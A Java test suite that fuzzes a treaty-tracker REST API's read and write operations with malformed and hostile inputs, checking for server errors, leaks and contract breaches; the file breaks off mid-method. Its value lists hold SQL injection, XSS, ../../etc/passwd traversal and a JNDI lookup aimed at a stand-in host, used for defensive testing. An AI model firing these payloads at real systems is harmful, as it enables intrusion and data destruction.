package org.treatytracker.hardening;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.atlassian.oai.validator.OpenApiInteractionValidator;
import com.atlassian.oai.validator.model.Request;
import com.atlassian.oai.validator.model.SimpleResponse;
import com.atlassian.oai.validator.report.ValidationReport;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.treatytracker.support.Contract;
import org.treatytracker.support.DbSnapshot;
import org.treatytracker.support.Editors;

/**
 * Hostile and malformed input on every operation of the published contract, generated from
 * openapi.yaml.
 *
 * <p>Reads: for each parameter of each GET operation, the parameter missing, of the wrong type, at
 * extreme values, and carrying injection strings, the other parameters valid; and each operation once
 * as HTTP/1.0 without a Host header (its Link must stay relative).
 *
 * <p>Writes: every POST, PATCH and DELETE, with a valid editor token. Each operation starts from a
 * valid body (its request body's examples in openapi.yaml) and sends it malformed, empty, of the wrong
 * top-level type, with each field (those of the example and those of its schema) missing, null, of
 * each other JSON type, at extreme values, carrying injection strings and hard Unicode, with unknown
 * fields, with a duplicate key, under wrong Content-Types, over the size limit and chunked with a
 * trailer field; then with path ids
 * that are not ids, If-Match values that are not the current ETag, hostile query values and callers
 * who may not write (among them validly signed tokens whose claims are of the wrong type). The facts those writes need, and every fact they create, are editors' facts,
 * retracted at the end; no source is ever added (the base body of POST /api/v1/sources repeats a
 * stored text under a taken id, so whatever one field says, it answers 400 or 409).
 *
 * <p>No answer may be a 5xx, every error must be problem+json without a stack trace or SQL, every
 * answer must match the contract (status documented, headers, body schema), and the database must be
 * whole afterwards. The numbers of requests are printed.
 */
@QuarkusTest
@Tag("slow")
class BadInputSuiteTest {

    private static final String SEED_ARTICLE = "000_a06249cdaee31e0b";

    /** Valid values, by parameter name, so that one parameter at a time is wrong (fact and citation ids: the fixture's). */
    private static final Map<String, String> VALID = Map.of(
            "iso3", "VNM", "code", "CAT", "id", SEED_ARTICLE);

    private static final List<String> HOSTILE = List.of(
            "", " ", "abc", "-1", "0", "1.5", "99999999999999999999", "1e309", "NaN", "null", "true",
            "x".repeat(5000), "' OR '1'='1", "1; DROP TABLE facts; --", "\" OR \"\"=\"", "<script>alert(1)</script>",
            "../../etc/passwd", "${jndi:ldap://example.invalid/a}", "%00", "%", "%zz", "\\", "{}", "[]",
            "Viêt Nam", "\u202Eesrever", "🇻🇳", "e\u0301", "a,b,,c", ",", "VNM,ZZZ,", "2014-02-30", "0000-00-00",
            "+999999999-12-31", "-999999999-01-01", "+300000-01-01T00:00:00Z", "csv", "json", "xml",
            // Control characters, sent percent-encoded as such (the "%00" above arrives as three characters).
            "\u0000", "a\u0000b", "\u0001", "\u001F", "\n", "\u007F", "\u0085");

    private static final List<String> LEAKS = List.of("Exception", "\tat ", "at org.", "org.hibernate", "SQLState",
            "PSQLException", "org.postgresql", "syntax error at", "java.lang", "java.math", "java.util", "com.fasterxml",
            "violates ", "could not execute", "JDBC");

    /** What a field of a body is set to: raw JSON text (null: the field left out). */
    private record Value(String label, String json) {
    }

    private static final List<Value> FIELD_VALUES = List.of(
            new Value("missing", null),
            new Value("null", "null"),
            new Value("empty string", "\"\""),
            new Value("blank string", "\" \""),
            new Value("string", "\"text\""),
            new Value("numeric string", "\"12\""),
            new Value("year 0", "\"0000\""),
            new Value("100k chars", "\"" + "x".repeat(100_000) + "\""),
            new Value("number", "12345"),
            new Value("negative", "-1"),
            new Value("zero", "0"),
            new Value("fraction", "1.5"),
            new Value("huge integer", "99999999999999999999"),
            new Value("1e400", "1e400"),
            new Value("1e999999999", "1e999999999"),
            new Value("1e-999999999", "1e-999999999"),
            new Value("exponent past int", "1e-5000000000"),
            new Value("5000 digits", "9".repeat(5000)),
            new Value("object", "{\"a\":1}"),
            new Value("array", "[\"a\"]"),
            new Value("empty array", "[]"),
            new Value("boolean", "true"),
            new Value("SQL", text("' OR '1'='1")),
            new Value("SQL drop", text("'; DROP TABLE facts; --")),
            new Value("script", text("<script>alert(1)</script>")),
            new Value("JNDI", text("${jndi:ldap://example.invalid/a}")),
            new Value("path traversal", text("../../etc/passwd")),
            new Value("RTL", text("\u202Eesrever مرحبا שלום")),
            new Value("emoji", text("🇻🇳 👨\u200D👩\u200D👧 🎉")),
            new Value("combining marks", text("Vie\u0323\u0302t Nam e\u0301 a\u0308")),
            new Value("escaped NUL", "\"a\\u0000b\""),
            new Value("lone surrogate", "\"a\\ud800b\""));

    /** For a field the server will refuse as unknown whatever it holds. */
    private static final List<Value> FOREIGN_FIELD_VALUES = FIELD_VALUES.stream()
            .filter(v -> Set.of("null", "string", "number", "object", "array", "escaped NUL").contains(v.label()))
            .toList();

    private static final List<String> BAD_IDS = List.of("abc", "-1", "0", "1.5", "1e3", "0x1F", " 1",
            "99999999999999999999", "9223372036854775807", "1; DROP TABLE facts; --", "../../etc/passwd", "🇻🇳", "%00");

    private static final List<String> BAD_IF_MATCH = List.of("", " ", "*", " * ", "\"v999999\"", "\"v-1\"", "\"v\"",
            "\"v99999999999999999999\"", "v0", "W/\"v0\"", "garbage", "'; DROP TABLE facts; --",
            "\"" + "v".repeat(8000) + "\"", "\"v0\u00e9\"", "\"x\", garbage, *");

    private static final List<String> BAD_QUERY = List.of("", " ", "x".repeat(1000), "x".repeat(1001),
            "x".repeat(5000), "' OR '1'='1", "'; DROP TABLE facts; --", "<script>alert(1)</script>",
            "${jndi:ldap://example.invalid/a}", "../../etc/passwd", "\u202Eesrever", "🇻🇳 👨\u200D👩\u200D👧", "e\u0301",
            "%00", "%", "%zz", "\u0000", "a\u0000b", "\u0001", "\r\n", "\u007F");

    private static final List<String> WRONG_MEDIA_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream",
            "application/json-patch+json", "text/html", "application/json; charset=utf-16",
            "application/merge-patch+json; charset=iso-8859-1");

    /**
     * Server bugs this suite found and reported, not yet fixed: an answer matching one (a 5xx, or a
     * breach of the contract) is counted and printed instead of failing the suite. Remove each entry
     * once the bug is fixed, so that the suite guards against its return.
     */
    private record KnownBug(Pattern request, String what) {
    }

    private static final List<KnownBug> KNOWN_BUGS = List.of();

    /** Requests that depend on no shared state (reads; writes that add) run this many at a time. */
    private static final int PARALLEL = 3;

    private static final HttpClient HTTP = newClient();

    private static HttpClient newClient() {
        return HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(10)).build();
    }

    private final ObjectMapper json = new ObjectMapper();
    private JsonNode api;
    private OpenApiInteractionValidator contract;
    private String token;
    private Fixture fixture;
    private final List<String> failures = Collections.synchronizedList(new ArrayList<>());
    private final Map<String, Integer> knownBugs = Collections.synchronizedMap(new TreeMap<>());
    private final Map<String, Map<Integer, Integer>> statuses = new TreeMap<>();
    private ExecutorService pool;

    @BeforeEach
    void readTheContract() throws IOException {
        api = new ObjectMapper(new YAMLFactory()).readTree(Path.of("openapi.yaml").toFile());
        contract = OpenApiInteractionValidator.createForSpecificationUrl(Path.of("openapi.yaml").toUri().toString()).build();
        token = Editors.editor("bad-input-suite");
        fixture = new Fixture();
        pool = Executors.newFixedThreadPool(PARALLEL);
    }

    @AfterEach
    void retractWhatTheSuiteAdded() {
        pool.shutdownNow();
        fixture.retractAll();
    }

    /** Runs the tasks {@link #PARALLEL} at a time and waits for all of them. */
    private void inParallel(List<Runnable> tasks) {
        List<Future<?>> running = tasks.stream().<Future<?>>map(pool::submit).toList();
        for (Future<?> task : running) {
            try {
                task.get();
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            } catch (ExecutionException e) {
                throw new IllegalStateException(e.getCause());
            }
        }
    }

    @Test
    void noInputMakesTheServiceFail() {
        Database before = Database.now();
        fixture.fact();
        fixture.citation();
        List<Runnable> requests = new ArrayList<>();
        for (var path : api.get("paths").properties()) {
            JsonNode operation = path.getValue().get("get");
            if (operation == null) {
                continue;
            }
            List<JsonNode> parameters = new ArrayList<>();
            for (JsonNode parameter : iterable(operation.path("parameters").elements())) {
                parameters.add(resolve(parameter));
            }
            boolean secured = operation.has("security") && !operation.get("security").isEmpty();
            for (JsonNode target : parameters) {
                List<String> values = new ArrayList<>(HOSTILE);
                if (!"path".equals(target.get("in").asText())) {
                    values.add(null);
                }
                for (String value : values) {
                    requests.add(() -> get(path.getKey(), parameters, target, value, secured, Framing.PLAIN));
                }
            }
            requests.add(() -> get(path.getKey(), parameters, null, null, secured, Framing.HTTP10_WITHOUT_HOST));
        }
        inParallel(requests);
        report("GET", requests.size(), Map.of("GET", requests.size()));
        assertTrue(requests.size() > 1000, "the suite should send more than a thousand requests, sent " + requests.size());
        fixture.retractAll();
        before.assertWhole();
        assertNoFailures();
    }

    @Test
    void noBodyMakesTheServiceFail() throws IOException {
        Database before = Database.now();
        Map<String, Integer> byMethod = new TreeMap<>();
        int requests = 0;
        for (var path : api.get("paths").properties()) {
            for (String method : List.of("post", "patch", "delete")) {
                JsonNode operation = path.getValue().get(method);
                if (operation != null) {
                    int sent = writes(path.getKey(), method.toUpperCase(), operation);
                    byMethod.merge(method.toUpperCase(), sent, Integer::sum);
                    requests += sent;
                }
            }
        }
        report("body", requests, byMethod);
        int created = fixture.created.size();
        fixture.retractAll();
        System.out.println("Bad-input suite (body): " + created + " editor facts created, all retracted; "
                + fixture.setupRequests + " fixture and clean-up requests besides");
        assertTrue(byMethod.getOrDefault("POST", 0) > 0 && byMethod.getOrDefault("PATCH", 0) > 0
                && byMethod.getOrDefault("DELETE", 0) > 0, "every write method is exercised: " + byMethod);
        assertTrue(requests > 2000, "the suite should send more than two thousand write requests, sent " + requests);
        before.assertWhole();
        assertNoFailures();
    }

    // ---------------------------------------------------------------- reads

    /** Sends one GET with {@code target} set to {@code value} (null: left out) and checks the answer. */
    private void get(String template, List<JsonNode> parameters, JsonNode target, String value, boolean secured,
                     Framing framing) {
        Map<String, String> query = new LinkedHashMap<>();
        String path = template;
        for (JsonNode parameter : parameters) {
            String name = parameter.get("name").asText();
            String given = parameter == target ? value : valid(template, name);
            if ("path".equals(parameter.get("in").asText())) {
                path = path.replace("{" + name + "}", encode(given == null ? "" : given));
            } else if (given != null) {
                query.put(name, given);
            }
        }
        String queryString = query.entrySet().stream().map(e -> e.getKey() + "=" + encode(e.getValue()))
                .collect(Collectors.joining("&"));
        Answer answer = exchange("GET", path + (queryString.isEmpty() ? "" : "?" + queryString),
                secured ? Map.of("Authorization", "Bearer " + token) : Map.of(), null, null, framing);
        String what = "GET " + template + " " + query.keySet() + (target == null ? " (" + framing + ")"
                : " (" + target.get("name").asText() + "=" + shorten(value) + ")");
        check("GET", path, what, answer);
        String link = answer.header("Link");
        if (link != null && link.contains("://")) {
            fail(what + " -> Link is not relative: " + shorten(link));
        }
    }

    private String valid(String template, String name) {
        if (name.equals("id") && template.startsWith("/api/v1/facts/")) {
            return Long.toString(fixture.fact().id());
        }
        if (name.equals("id") && template.startsWith("/api/v1/citations/")) {
            return Long.toString(fixture.citation().id());
        }
        if (name.equals("id") && template.startsWith("/api/v1/recommendations/")) {
            return Long.toString(fixture.recommendation().id());
        }
        return VALID.get(name);
    }

    // ---------------------------------------------------------------- writes

    /** One write operation's cases; returns the number of requests sent. */
    private int writes(String template, String method, JsonNode operation) throws IOException {
        Set<String> parameters = new LinkedHashSet<>();
        for (JsonNode parameter : iterable(operation.path("parameters").elements())) {
            JsonNode p = resolve(parameter);
            parameters.add(p.get("in").asText() + ":" + p.get("name").asText());
        }
        Cases cases = new Cases(method, template, parameters.contains("header:If-Match"));
        try {
            cases(cases, operation, parameters);
        } finally {
            cases.finish();
        }
        return cases.sent.get();
    }

    private void cases(Cases cases, JsonNode operation, Set<String> parameters) throws IOException {
        String template = cases.template;
        JsonNode content = operation.path("requestBody").path("content");
        List<String> mediaTypes = new ArrayList<>();
        content.fieldNames().forEachRemaining(mediaTypes::add);
        String mediaType = mediaTypes.isEmpty() ? null : mediaTypes.get(0);
        List<ObjectNode> bases = new ArrayList<>();
        for (String type : mediaTypes) {
            for (JsonNode example : examples(content.get(type))) {
                bases.add(baseBody(cases.op, (ObjectNode) example.deepCopy()));
            }
        }
        if (mediaType != null && bases.isEmpty()) {
            throw new IllegalStateException(cases.op + " takes a body but openapi.yaml gives no example to start from");
        }
        byte[] body = mediaType == null ? null : bytes(bases.get(0));

        if (mediaType != null) {
            // The valid bodies, in each media type the operation takes.
            for (String type : mediaTypes) {
                for (ObjectNode base : type.equals(mediaType) ? bases : bases.subList(0, 1)) {
                    cases.send("valid example" + kindOf(base) + " as " + type, type, bytes(base));
                }
            }
            // Structure: malformed, empty, of the wrong top-level type, unknown or repeated fields.
            ObjectNode base = bases.get(0);
            String text = base.toString();
            String open = text.substring(0, text.length() - 1);
            String first = base.fieldNames().next();
            Map<String, String> raw = new LinkedHashMap<>();
            raw.put("truncated JSON", open);
            raw.put("single quotes", "{'kind':'treaty_action'}");
            raw.put("trailing comma", open + ",}");
            raw.put("unquoted key", "{kind:1}");
            raw.put("bad escape", "{\"title\":\"\\x\"}");
            raw.put("bare word", "nul");
            raw.put("two documents", text + text);
            raw.put("comment", "/* c */" + text);
            raw.put("byte order mark", "\uFEFF" + text);
            raw.put("raw control characters", "{\"title\":\"a\u0001b\u0000c\"}");
            raw.put("deep array nesting", "[".repeat(5000) + "]".repeat(5000));
            raw.put("deep object nesting", "{\"a\":".repeat(3000) + "1" + "}".repeat(3000));
            raw.put("empty body", "");
            raw.put("whitespace body", "  \n ");
            raw.put("top-level null", "null");
            raw.put("top-level empty array", "[]");
            raw.put("top-level array of the body", "[" + text + "]");
            raw.put("top-level string", "\"" + "x".repeat(100) + "\"");
            raw.put("top-level number", "42");
            raw.put("top-level huge number", "1e999999999");
            raw.put("top-level boolean", "true");
            raw.put("empty object", "{}");
            raw.put("duplicate key", open + "," + TextNode.valueOf(first) + ":" + base.get(first) + "}");
            raw.put("unknown field", open + ",\"unknown_field\":1}");
            raw.put("10000 unknown fields", open + unknownFields(10_000) + "}");
            for (var entry : raw.entrySet()) {
                cases.send(entry.getKey(), mediaType, entry.getValue().getBytes(StandardCharsets.UTF_8));
            }
            cases.send("invalid UTF-8", mediaType, (open + ",\"unknown_field\":\"a\u00e9b\"}").getBytes(StandardCharsets.ISO_8859_1));
            for (String wrong : WRONG_MEDIA_TYPES) {
                cases.send("Content-Type " + wrong, wrong, body);
            }
            cases.send("no Content-Type", null, body);
            cases.oversize(mediaType);
            cases.chunkedWithTrailer(mediaType, body);

            // Each field of each example (its own and its schema's), set to each hostile value. A merge
            // patch's field that neither the example nor the fact being patched has (one of another kind
            // of fact) is refused whatever its value: a few values show that.
            JsonNode schema = content.get(mediaType).get("schema");
            Set<String> nestedDone = new LinkedHashSet<>();
            Set<String> patched = mediaType.contains("merge-patch") && template.startsWith("/api/v1/facts/")
                    ? fixture.claimFields() : null;
            for (ObjectNode example : bases) {
                for (String pointer : pointers(example, schemaFor(schema, example), nestedDone)) {
                    boolean foreign = patched != null && example.at(pointer).isMissingNode()
                            && !patched.contains(pointer.substring(1));
                    for (Value value : foreign ? FOREIGN_FIELD_VALUES : FIELD_VALUES) {
                        if (value.json() != null || !example.at(pointer).isMissingNode()) {
                            cases.send(pointer + " " + value.label() + kindOf(example), mediaType, mutate(example, pointer, value));
                        }
                    }
                }
                String unknownNested = unknownNested(example);
                if (unknownNested != null) {
                    cases.send("unknown nested field" + kindOf(example), mediaType, unknownNested.getBytes(StandardCharsets.UTF_8));
                }
            }
        }
        // Path ids that are not ids, and a seed-owned fact or citation (409), or the first recommendation.
        if (template.contains("{id}")) {
            for (String id : BAD_IDS) {
                cases.withId("id=" + shorten(id), encode(id), mediaType, body);
            }
            cases.withId("id 1 of " + collection(template), "1", mediaType, body);
        }
        // If-Match missing or not the current ETag.
        if (cases.ifMatch) {
            cases.send("If-Match missing", mediaType, body, Map.of());
            for (String tag : BAD_IF_MATCH) {
                cases.send("If-Match " + shorten(tag), mediaType, body, Map.of("If-Match", tag));
            }
        }
        // Hostile query values (the reason of a retraction).
        for (String parameter : parameters) {
            if (parameter.startsWith("query:")) {
                for (String value : BAD_QUERY) {
                    cases.withQuery(parameter.substring(6), value, mediaType, body);
                }
            }
        }
        // Callers who may not write.
        cases.as("no token", null, mediaType, body);
        cases.as("reader token", "Bearer " + Editors.reader("bad-input-reader"), mediaType, body);
        cases.as("garbage token", "Bearer not.a.jwt", mediaType, body);
        cases.as("basic credentials", "Basic YWRtaW46YWRtaW4=", mediaType, body);
        // Validly signed tokens whose claims are of the wrong type or make no author.
        for (var claims : TokenClaimTypesTest.badClaims().entrySet()) {
            cases.as("token with " + claims.getKey(), "Bearer " + Editors.signedWith(claims.getValue()), mediaType, body);
        }
    }

    private static String unknownFields(int count) {
        StringBuilder fields = new StringBuilder();
        for (int i = 0; i < count; i++) {
            fields.append(",\"u").append(i).append("\":").append(i);
        }
        return fields.toString();
    }

    /**
     * Sends the cases of one write operation, each to a fact that exists, with its current ETag.
     * Operations on no existing resource (adding a source or a claim) change nothing the next case
     * depends on: their cases run {@link #PARALLEL} at a time.
     */
    private final class Cases {

        final String op;
        final String method;
        final String template;
        final boolean ifMatch;
        final AtomicInteger sent = new AtomicInteger();
        private final List<Runnable> queued = new ArrayList<>();

        Cases(String method, String template, boolean ifMatch) {
            this.op = method + " " + template;
            this.method = method;
            this.template = template;
            this.ifMatch = ifMatch;
        }

        void send(String label, String mediaType, byte[] body) {
            Target target = target();
            request(label, target.path(), mediaType, body, target.ifMatch(), "Bearer " + token, Framing.PLAIN);
        }

        /** With exactly these headers instead of the current If-Match. */
        void send(String label, String mediaType, byte[] body, Map<String, String> headers) {
            request(label, target().path(), mediaType, body, headers, "Bearer " + token, Framing.PLAIN);
        }

        void withId(String label, String encodedId, String mediaType, byte[] body) {
            Map<String, String> headers = target().ifMatch();
            if (encodedId.equals("1") && ifMatch) {
                String tag = exchange("GET", "/api/v1/" + collection(template) + "/1", Map.of(), null, null, Framing.PLAIN)
                        .header("ETag");
                headers = tag == null ? Map.of() : Map.of("If-Match", tag);
            }
            request(label, template.replace("{id}", encodedId), mediaType, body, headers, "Bearer " + token, Framing.PLAIN);
        }

        void withQuery(String name, String value, String mediaType, byte[] body) {
            Target target = target();
            request(name + "=" + shorten(value), target.path() + "?" + name + "=" + encode(value), mediaType, body,
                    target.ifMatch(), "Bearer " + token, Framing.PLAIN);
        }

        void as(String label, String authorization, String mediaType, byte[] body) {
            Target target = target();
            request(label, target.path(), mediaType, body, target.ifMatch(), authorization, Framing.PLAIN);
        }

        /**
         * A body over the limit, sent with Expect: 100-continue (the service answers 413 on its
         * Content-Length and closes the connection; without the expectation, a client still writing
         * the body could see the connection reset instead of the answer).
         */
        void oversize(String mediaType) {
            Target target = target();
            byte[] body = ("{\"text\":\"" + "a".repeat(2 * 1024 * 1024 + 1) + "\"}").getBytes(StandardCharsets.UTF_8);
            request(OVERSIZE, target.path(), mediaType, body, target.ifMatch(), "Bearer " + token, Framing.EXPECT_CONTINUE);
        }

        /** The valid body, chunked with a trailer field (which the framework's streamed reading failed on). */
        void chunkedWithTrailer(String mediaType, byte[] body) {
            Target target = target();
            request("chunked with trailer", target.path(), mediaType, body, target.ifMatch(), "Bearer " + token,
                    Framing.CHUNKED_WITH_TRAILER);
        }

        private Target target() {
            if (template.startsWith("/api/v1/citations/")) {
                Fixture.Current citation = fixture.citation();
                return new Target(template.replace("{id}", Long.toString(citation.id())), ifMatch ? citation.etag() : null);
            }
            if (template.startsWith("/api/v1/facts/")) {
                Fixture.Current fact = fixture.fact();
                return new Target(template.replace("{id}", Long.toString(fact.id())), ifMatch ? fact.etag() : null);
            }
            if (template.startsWith("/api/v1/recommendations/")) {
                Fixture.Current recommendation = fixture.recommendation();
                return new Target(template.replace("{id}", Long.toString(recommendation.id())),
                        ifMatch ? recommendation.etag() : null);
            }
            return new Target(template, null);
        }

        /** Sends the queued requests of an operation on no existing resource. */
        void finish() {
            inParallel(queued);
            queued.clear();
        }

        private Answer request(String label, String path, String mediaType, byte[] body, Map<String, String> headers,
                               String authorization, Framing framing) {
            if (!template.contains("{")) {
                queued.add(() -> exchangeAndCheck(label, path, mediaType, body, headers, authorization, framing));
                return null;
            }
            return exchangeAndCheck(label, path, mediaType, body, headers, authorization, framing);
        }

        private Answer exchangeAndCheck(String label, String path, String mediaType, byte[] body,
                                        Map<String, String> headers, String authorization, Framing framing) {
            Map<String, String> all = new LinkedHashMap<>(headers);
            if (authorization != null) {
                all.put("Authorization", authorization);
            }
            Answer answer;
            try {
                answer = exchange(method, path, all, mediaType, body, framing);
            } catch (IllegalArgumentException unsendable) {
                return null; // a header value the HTTP client itself refuses to send
            }
            sent.incrementAndGet();
            synchronized (statuses) {
                statuses.computeIfAbsent(op, o -> new TreeMap<>()).merge(answer.status(), 1, Integer::sum);
            }
            String what = op + " (" + label + ")";
            check(method, path, what, answer);
            if (label.equals(OVERSIZE) && answer.status() != 413) {
                failures.add(what + " -> " + answer.status() + ", expected 413: " + shorten(answer.text()));
            }
            if (answer.status() < 300 || answer.status() >= 500) {
                fixture.changed();
            }
            if (op.equals("POST /api/v1/claims") && answer.status() == 201) {
                String location = String.valueOf(answer.header("Location"));
                (location.contains("/api/v1/recommendations/") ? fixture.recommendations : fixture.created)
                        .add(fixture.idOf(answer));
            }
            if (op.equals("POST /api/v1/sources") && answer.status() == 201) {
                failures.add(what + " added a source; its base body must repeat a stored text, so that none is added");
            }
            return answer;
        }
    }

    private static final String OVERSIZE = "oversize body (> 2 MB)";

    /** The collection an {id} template addresses: facts, citations or recommendations. */
    private static String collection(String template) {
        return template.substring("/api/v1/".length(), template.indexOf('/', "/api/v1/".length()));
    }

    private record Target(String path, String etag) {
        Map<String, String> ifMatch() {
            return etag == null ? Map.of() : Map.of("If-Match", etag);
        }
    }

    // ---------------------------------------------------------------- checks

    /** Records what is wrong with one answer: a 5xx, an error not in problem+json, a leak, a breach of the contract. */
    private void check(String method, String path, String what, Answer answer) {
        int status = answer.status();
        String body = answer.text();
        if (status == 414 && body.isEmpty()) {
            // Refused by the HTTP decoder for its length (over quarkus.http.limits.max-initial-line-length),
            // before any code of ours runs: a protocol-level answer with no body to shape.
            return;
        }
        if (status >= 500) {
            fail(what + " -> " + status + ": " + shorten(body));
            return;
        }
        if (status >= 400 && !String.valueOf(answer.contentType()).startsWith("application/problem+json")) {
            fail(what + " -> " + status + " as " + answer.contentType());
            return;
        }
        for (String leak : LEAKS) {
            if (status >= 400 && body.contains(leak)) {
                fail(what + " -> " + status + " leaks '" + leak + "': " + shorten(body));
                return;
            }
        }
        String breach = breach(method, path, answer);
        if (breach != null) {
            fail(what + " -> " + status + " breaks the contract: " + breach);
        }
    }

    private void fail(String failure) {
        for (KnownBug bug : KNOWN_BUGS) {
            if (bug.request().matcher(failure).find()) {
                knownBugs.merge(bug.what(), 1, Integer::sum);
                return;
            }
        }
        failures.add(failure);
    }

    /** What in the answer does not match openapi.yaml (status documented, headers, body schema), or null. */
    private String breach(String method, String path, Answer answer) {
        SimpleResponse.Builder response = SimpleResponse.Builder.status(answer.status()).withBody(answer.body());
        if (answer.contentType() != null) {
            response.withContentType(answer.contentType());
        }
        for (String header : List.of("ETag", "Location", "WWW-Authenticate")) {
            if (answer.header(header) != null) {
                response.withHeader(header, answer.header(header));
            }
        }
        String bare = path.contains("?") ? path.substring(0, path.indexOf('?')) : path;
        ValidationReport report = contract.validateResponse(bare, Request.Method.valueOf(method), response.build());
        List<String> messages = report.getMessages().stream()
                .filter(m -> m.getLevel() == ValidationReport.Level.ERROR)
                // A path that names no operation (an empty id) has no documented answer to check.
                .filter(m -> !m.getKey().equals("validation.request.path.missing"))
                .map(m -> m.getKey() + ": " + m.getMessage())
                .toList();
        return messages.isEmpty() ? null : shorten(String.join("; ", messages));
    }

    private void report(String kind, int requests, Map<String, Integer> byMethod) {
        System.out.println("Bad-input suite (" + kind + "): " + requests + " requests " + byMethod + ", "
                + failures.size() + " failures, " + knownBugs.values().stream().mapToInt(Integer::intValue).sum()
                + " answers showing known server bugs");
        statuses.forEach((op, count) -> System.out.println("  " + op + ": statuses " + count));
        knownBugs.forEach((bug, count) -> System.out.println("  KNOWN SERVER BUG (" + count + " answers): " + bug));
    }

    private void assertNoFailures() {
        assertTrue(failures.isEmpty(), failures.size() + " failures:\n"
                + String.join("\n", failures.subList(0, Math.min(60, failures.size()))));
    }

    /** The database as a suite found it: its tables, facts and sources, and the treaty list. */
    private record Database(long tables, long facts, long sources) {

        static Database now() {
            given().get("/api/v1/treaties").then().statusCode(200);
            return new Database(
                    DbSnapshot.count("SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public'"),
                    DbSnapshot.count("SELECT count(*) FROM facts"),
                    DbSnapshot.count("SELECT count(*) FROM sources"));
        }

        void assertWhole() {
            given().filter(Contract.FILTER).get("/api/v1/treaties").then().statusCode(200).body("total", equalTo(19));
            given().filter(Contract.FILTER).get("/api/v1/states/VNM/ratifications").then().statusCode(200);
            assertEquals(this, now(), "tables, facts and sources are as before the suite");
        }
    }

    // ---------------------------------------------------------------- HTTP

    /** How a request goes on the wire. */
    private enum Framing {
        /** The JDK client: Content-Length (or none), HTTP/1.1. */
        PLAIN,
        /** Apache's client, with Expect: 100-continue. */
        EXPECT_CONTINUE,
        /** By hand: the body chunked, with a trailer field. */
        CHUNKED_WITH_TRAILER,
        /** By hand: HTTP/1.0 without a Host header. */
        HTTP10_WITHOUT_HOST
    }

    private record Answer(int status, String contentType, byte[] body, Map<String, List<String>> headers) {

        String text() {
            return new String(body, StandardCharsets.UTF_8);
        }

        String header(String name) {
            return headers.entrySet().stream().filter(h -> h.getKey().equalsIgnoreCase(name))
                    .map(h -> h.getValue().get(0)).findFirst().orElse(null);
        }
    }

    /** One request as given: exactly these bytes, this Content-Type (none when null) and these headers. */
    private static Answer exchange(String method, String pathAndQuery, Map<String, String> headers, String mediaType,
                               byte[] body, Framing framing) {
        if (framing == Framing.CHUNKED_WITH_TRAILER || framing == Framing.HTTP10_WITHOUT_HOST) {
            return byHand(method, pathAndQuery, headers, mediaType, body, framing);
        }
        if (framing == Framing.EXPECT_CONTINUE) {
            // The JDK 17 client hangs when a 100-continue is answered with a final status; Apache's does not.
            RequestSpecification request = given().urlEncodingEnabled(false).config(RestAssured.config().httpClient(
                    RestAssured.config().getHttpClientConfig().setParam("http.protocol.expect-continue", true)));
            headers.forEach((name, value) -> request.header(name, value));
            Response response = request.contentType(mediaType).body(body).request(method, pathAndQuery);
            Map<String, List<String>> answerHeaders = new LinkedHashMap<>();
            response.headers().forEach(h -> answerHeaders.computeIfAbsent(h.getName(), n -> new ArrayList<>()).add(h.getValue()));
            return new Answer(response.statusCode(), response.contentType(), response.asByteArray(), answerHeaders);
        }
        String base = RestAssured.baseURI + ":" + RestAssured.port + RestAssured.basePath.replaceAll("/$", "");
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + pathAndQuery))
                .timeout(Duration.ofSeconds(60))
                .expectContinue(false)
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        headers.forEach(request::header);
        if (mediaType != null) {
            request.header("Content-Type", mediaType);
        }
        // A request line over the server's limit gets a 414 and a closed connection: send it on a connection of its own,
        // so that the next request does not find the shared connection closed under it.
        HttpClient client = pathAndQuery.length() > 4000 ? newClient() : HTTP;
        try {
            HttpResponse<byte[]> response;
            try {
                response = client.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
            } catch (IOException closedUnderIt) {
                // A kept-alive connection the server had closed: no answer came, so send it again on a new one.
                response = newClient().send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
            }
            return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(null),
                    response.body(), response.headers().map());
        } catch (IOException e) {
            throw new IllegalStateException(method + " " + shorten(pathAndQuery) + ": " + e, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static Answer byHand(String method, String pathAndQuery, Map<String, String> headers, String mediaType,
                                 byte[] body, Framing framing) {
        String request;
        if (framing == Framing.CHUNKED_WITH_TRAILER) {
            request = RawHttp.chunkedWithTrailer(method, RestAssured.basePath.replaceAll("/$", "") + pathAndQuery, headers,
                    mediaType, body == null ? new byte[0] : body);
        } else {
            request = RawHttp.http10WithoutHost(method, RestAssured.basePath.replaceAll("/$", "") + pathAndQuery, headers);
